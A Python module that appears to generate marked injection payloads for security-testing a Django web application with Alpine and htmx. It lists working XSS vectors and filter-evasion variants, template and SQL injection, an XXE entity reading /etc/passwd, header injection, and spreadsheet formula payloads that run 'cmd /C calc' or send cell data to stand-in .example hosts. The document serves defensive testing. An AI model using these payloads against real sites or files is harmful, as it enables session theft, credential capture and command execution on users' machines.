"""
Text that tries to become something else: markup, an attribute, an expression, a formula.

Composed for what our pages are made of: HTML by Django's templates, expressions of Alpine and
htmx in attributes, JSON in script elements, tables as CSV. The ideas are those of OWASP's XSS
filter evasion and CSV injection pages, PortSwigger's cross-site scripting cheat sheet, the
html5security cheat sheet and the PayloadsAllTheThings collection.

Every payload carries its mark, a name that no page has otherwise, also as the name of an element
or an attribute: an element or an attribute that is called so was made from data.
"""

import re
from typing import NamedTuple

MARK = re.compile(r"zq\d{3}")


class Payload(NamedTuple):
    """One text, and the mark by which it is found again."""

    mark: str
    text: str


# What a payload must get out of before it can be markup.
_CONTEXTS = (
    *('">', "'>", "`>", "-->", "]]>", "*/", "</title>", "</textarea>", "</pre>", "</style>"),
    *("</script>", "</option></select>", "</td></tr></table>", "</noscript>", "</template>"),
)

_CORE = (
    "<script>{m}()</script><{m}>",
    "<img src=x onerror={m}()><{m}>",
    "<svg onload={m}()><{m}>",
)

_ELEMENTS = (
    "<script src=//{m}.example/x.js></script><{m}>",
    "<script type=module>import('//{m}.example')</script><{m}>",
    "<ScRiPt>{m}()</sCrIpT><{m}>",
    "<script\x0c>{m}()</script\x0c><{m}>",
    "<scr<script>ipt>{m}()</scr</script>ipt><{m}>",
    "<<script>{m}();//<</script><{m}>",
    "<script>{m}()<!--<{m}>",
    "<img src=1 href=1 onerror='javascript:{m}()'></img><{m}>",
    "<img/src='x'/onerror={m}()><{m}>",
    "<img src=`x`onerror={m}()><{m}>",
    "<img srcset=x onerror={m}()><{m}>",
    "<svg><script>{m}()</script></svg><{m}>",
    "<svg><animate onbegin={m}() attributeName=x dur=1s><{m}>",
    "<svg><a xlink:href=javascript:{m}()><text y=20>x</text></a><{m}>",
    "<svg><use href=data:image/svg+xml,{m}#x /></svg><{m}>",
    "<svg><foreignObject><body onload={m}()></foreignObject></svg><{m}>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={m}()>'>",
    "<math href=javascript:{m}()>x</math><{m}>",
    "<body onload={m}()><{m}>",
    "<body onpageshow={m}()><{m}>",
    "<iframe src=javascript:{m}()></iframe><{m}>",
    "<iframe srcdoc='<script>parent.{m}()</script>'></iframe><{m}>",
    "<object data=javascript:{m}()></object><{m}>",
    "<embed src=javascript:{m}()><{m}>",
    "<base href=//{m}.example/><{m}>",
    "<meta http-equiv=refresh content='0;url=//{m}.example'><{m}>",
    "<link rel=stylesheet href=//{m}.example/x.css><{m}>",
    "<style>@import'//{m}.example/x.css';</style><{m}>",
    "<form action=//{m}.example><input name=password autofocus></form><{m}>",
    "<button form=login-form formaction=//{m}.example>Log in</button><{m}>",
    "<input autofocus onfocus={m}()><{m}>",
    "<select autofocus onfocus={m}()></select><{m}>",
    "<textarea autofocus onfocus={m}()></textarea><{m}>",
    "<details open ontoggle={m}()><{m}>",
    "<video><source onerror={m}()></video><{m}>",
    "<audio src=x onerror={m}()></audio><{m}>",
    "<marquee onstart={m}()>x</marquee><{m}>",
    "<dialog open onclose={m}()>x</dialog><{m}>",
    "<template><img src=x onerror={m}()></template><{m}>",
    "<noscript><p title='</noscript><img src=x onerror={m}()>'><{m}>",
    "<a href=javascript:{m}()>statement</a><{m}>",
    "<a href='java&#9;script:{m}()'>statement</a><{m}>",
    "<isindex type=image src=1 onerror={m}()><{m}>",
    "<keygen autofocus onfocus={m}()><{m}>",
    "<xss-{m} style='animation-name:x' onanimationstart={m}()><{m}>",
    "<p popover id={m} onbeforetoggle={m}()><{m}>",
    "<{m}/x='",
    "</{m}><{m} a=b>",
)

_ATTRIBUTES = (
    '" {m}=1 onmouseover="{m}()',
    "' {m}=1 onmouseover='{m}()",
    " {m}=1 onmouseover={m}() ",
    '" {m}=1 autofocus tabindex=1 onfocus={m}() x="',
    "' {m}=1 accesskey=x onclick='{m}()",
    '" {m}=1 style="position:fixed;inset:0" onclick="{m}()',
    '"\n{m}=1\nonpointerenter="{m}()',
    '"/{m}=1/onmouseover="{m}()',
    "&quot; {m}=1 onmouseover=&quot;{m}()",
    "&#34; {m}=1 onmouseover=&#34;{m}()",
    '\\" {m}=1 onmouseover=\\"{m}()',
    '" {m}=1 x-data x-init="{m}()',
    '" {m}=1 x-on:click="{m}()" @click="{m}()',
    "' {m}=1 x-html='{m}' :class='{m}()",
    '" {m}=1 hx-get="/admin/logout/?{m}" hx-trigger="load',
    '" {m}=1 hx-on::load="{m}()',
    '" {m}=1 hx-vals="js:{{x: {m}()}}',
    '" {m}=1 formaction="javascript:{m}()',
    '" {m}=1 href="javascript:{m}()" xlink:href="javascript:{m}()',
    '" {m}=1 data-chart="{m}" srcdoc="<script>{m}()</script>',
)

_ADDRESSES = (
    "javascript:{m}()",
    "JaVaScRiPt:{m}()",
    " javascript:{m}()",
    "java\tscript:{m}()",
    "javascript://%0a{m}()",
    "javascript&colon;{m}()",
    "javascript:/*--></title></style></textarea></script><{m} onload=+/'/+/onclick=1/+{m}()//'>",
    "vbscript:{m}()",
    "data:text/html,<script>{m}()</script>",
    "data:text/html;base64,PHNjcmlwdD4{m}",
    "//{m}.example/",
    "https://{m}.example/admin/login/",
    "\\\\{m}.example\\share",
    "/admin/../{m}",
    "?q={m}&next=//{m}.example",
)

_EXPRESSIONS = (
    "{{{{ 7|add:'{m}' }}}}",
    "{{% include '{m}' %}}",
    "{{% debug %}}{m}",
    "{{{{ request.user.password }}}} {m}",
    "{{{{constructor.constructor('{m}()')()}}}}",
    "{{{{$on.constructor('{m}()')()}}}}",
    "${{{m}()}}",
    "#{{{m}()}}",
    "<%= {m}() %>",
    "[[{m}()]]",
    "';{m}();//",
    '";{m}();//',
    "`${{{m}()}}`",
    "\\';{m}();//",
    "\\u003cscript\\u003e{m}()\\u003c/script\\u003e",
    "\\x3cscript\\x3e{m}()\\x3c/script\\x3e",
    "%3Cscript%3E{m}()%3C/script%3E",
    "&lt;script&gt;{m}()&lt;/script&gt;",
    "&#x3c;script&#x3e;{m}()&#x3c;/script&#x3e;",
    '{{"a": "</script><{m}>"}}',
    "<!--{m}--><!-->{m}<{m}>",
    "<![CDATA[<{m}>]]>",
    "<?xml version='1.0'?><{m}>",
    "<!DOCTYPE x [<!ENTITY {m} SYSTEM 'file:///etc/passwd'>]>",
    "%s %(x)s {{0}} {{x}} {m}",
    "' OR 1=1 --{m}",
)

_SPELLINGS = (
    "＜script＞{m}()＜/script＞",  # noqa: RUF001  wide forms, which some databases fold into ASCII
    "‹script›{m}()‹/script›",  # noqa: RUF001  look-alikes
    "+ADw-script+AD4-{m}()+ADw-/script+AD4-",
    "<script>{m}\u2028()</script><{m}>",
    "\u202e<tpircs>{m}",
    "\u200b<script>{m}()</script><{m}>",
    "\ufeff<script>{m}()</script><{m}>",
    "<\u0000script>{m}()</script><{m}>",
    "<scr\u0000ipt>{m}()</script><{m}>",
    "\u001b[31m{m}\u001b[0m",
    "{m}\r\nSet-Cookie: users_session={m}",
    "{m}\u0085<{m}>",
    "a\u0301\u0301\u0301\u0301\u0301\u0301{m}<{m}>",
    "\U0001f4b8{m}<{m}>",
    "\U000e0001\U000e0041{m}<{m}>",
)

_FORMULAS = (
    "=1+1+{m}",
    "+1+1+{m}",
    "-1+1+{m}",
    "@SUM(1,{m})",
    "=cmd|'/C calc'!{m}",
    '=HYPERLINK("https://{m}.example?x="&A1,"open")',
    '=IMPORTXML(CONCAT("https://{m}.example?",A1:A9),"//a")',
    '=WEBSERVICE("https://{m}.example")',
    '=DDE("cmd";"/C calc";"{m}")',
    "@SUM(1+1)*cmd|' /C calc'!{m}",
    "=10+20+cmd|' /C calc'!{m}",
    "\t=1+{m}",
    "\r=1+{m}",
    "\n=1+{m}",
    '="{m}"&A1',
    "＝1+{m}",  # noqa: RUF001  the wide form, which spreadsheets of some languages calculate
    "＋1+{m}",  # noqa: RUF001  as above
    "－1+{m}",  # noqa: RUF001  as above
    "＠SUM(1,{m})",  # noqa: RUF001  as above
    '",=1+{m},"',
    '"\n=1+{m}\n"',
    "{m},=1+1",
    "{m}\n=1+1",
    "{m};=1+1",
    "'=1+{m}",
    " =1+{m}",
    "|cmd {m}",
    "%0A=1+{m}",
    "=1+{m}<{m}>",
    "-2+3+cmd|' /C calc'!{m}",
)


def payloads() -> list[Payload]:
    """Every payload, each under a mark of its own."""
    composed = [context + core for context in _CONTEXTS for core in _CORE]
    families = (_CORE, composed, _ELEMENTS, _ATTRIBUTES, _ADDRESSES, _EXPRESSIONS, _SPELLINGS)
    templates = [text for family in (*families, _FORMULAS) for text in family]
    marks = [f"zq{number:03d}" for number in range(len(templates))]
    return [Payload(mark, text.format(m=mark)) for mark, text in zip(marks, templates, strict=True)]
